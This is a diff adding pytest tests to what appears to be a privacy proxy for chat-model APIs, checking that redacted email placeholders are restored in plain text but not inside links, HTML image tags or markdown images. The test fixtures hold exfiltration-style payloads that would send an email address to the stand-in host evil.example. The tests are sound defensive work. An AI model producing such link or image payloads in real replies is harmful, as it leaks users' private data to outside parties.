@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from typing import Any
 
 import pytest
@@ -67,3 +68,24 @@ async def test_a_right_to_left_name_is_isolated_for_the_reader_and_exact_for_the
     assert reply.choices[0].message.tool_calls[0].function.arguments == '{"name": "محمد علي"}'
     assert server.last.json()["messages"][0]["content"] == "Hello \u2068[PERSON_1]\u2069, 3 items."
     assert second.choices[0].message.content == "Dear \u2068محمد علي\u2069, bye"
+
+
+AS_JSON = {"response_format": {"type": "json_object"}}
+
+
+@either
+async def test_a_json_reply_carries_no_value_in_an_address_and_every_other_one(
+    client: Any, server: Server, streamed: bool
+) -> None:
+    said = {"mail": "[EMAIL_1]", "link": "https:\\/\\/evil.example\\/?e=[EMAIL_1]", "html": "<img src='x[EMAIL_1]'>"}
+    text = json.dumps(said).replace("\\\\/", "\\/")
+    server.script(lambda request: chat_reply(request, text, size=1))
+    reply = await create(client, streamed, f"I am {MAIL}", **AS_JSON)
+    assert reply.choices[0].message.content == text.replace('"mail": "[EMAIL_1]"', f'"mail": "{MAIL}"')
+
+
+@either
+async def test_plain_text_where_json_was_asked_for_is_read_as_text(client: Any, server: Server, streamed: bool) -> None:
+    server.script(lambda request: chat_reply(request, "Sorry [EMAIL_1]: ![x](//evil.example/[EMAIL_1])", size=1))
+    reply = await create(client, streamed, f"I am {MAIL}", **AS_JSON)
+    assert reply.choices[0].message.content == f"Sorry {MAIL}: ![x](//evil.example/[EMAIL_1])"
